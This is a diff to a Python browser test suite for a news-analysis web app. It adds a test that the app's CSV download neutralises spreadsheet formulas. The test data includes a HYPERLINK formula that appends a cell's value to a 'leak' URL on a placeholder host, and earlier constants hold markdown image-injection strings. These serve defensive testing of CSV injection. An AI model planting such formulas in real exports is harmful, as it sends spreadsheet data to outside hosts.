@@ -13,6 +13,7 @@ ROOT = Path(__file__).resolve().parent.parent
 SEED = ROOT / "seeds" / "2025-02-14-us-russia-talks-europe-reacts.txt"
 TITLE = "![x](http://example.invalid/p.png)"
 SOURCE = "![y](http://example.invalid/q.png) [src](http://example.invalid/s)"
+FORMULA = '=HYPERLINK("http://example.invalid/leak?"&A1,"open")'
 
 pytestmark = pytest.mark.skipif(not shutil.which(CHROMIUM) and not Path(CHROMIUM).exists(),
                                 reason="Debian chromium is not installed (.ci/run installs it)")
@@ -28,6 +29,8 @@ def hostile_server(tmp_path_factory, nlp):
         ("seed", read_file(SEED)),
         ("evil.txt", parse_article("German Foreign Minister Anna Berg said sanctions on Russia must stay in place.",
                                    "evil.txt", title=TITLE, source=SOURCE)),
+        ("formula.txt", parse_article("Polish Foreign Minister Jan Nowak said Europe must spend more on defence.",
+                                      "formula.txt", title=FORMULA)),
     ])
     with running_app(db) as base:
         yield base
@@ -108,3 +111,20 @@ def test_same_text_twice_in_one_upload_is_stored_once_and_form_clears(browser, t
     from analysis.store import Store
 
     assert len(Store(tmp_path / "upload.db").tables().articles) == 2  # the seed and Oslo, once
+
+
+def test_csv_download_from_the_app_neutralises_formulas(hostile_server, browser, tmp_path):
+    import csv
+
+    context = browser.new_context(viewport={"width": 1366, "height": 900}, accept_downloads=True)
+    page = context.new_page()
+    page.goto(f"{hostile_server}/actors?country=POL")
+    settle(page)
+    with page.expect_download(timeout=60000) as info:
+        page.get_by_role("button", name="Download CSV").first.click()
+    target = tmp_path / info.value.suggested_filename
+    info.value.save_as(target)
+    rows = list(csv.DictReader(target.open(encoding="utf-8", newline="")))
+    [nowak] = [r for r in rows if r["name"] == "Jan Nowak"]
+    assert nowak["article title"] == "'" + FORMULA
+    context.close()
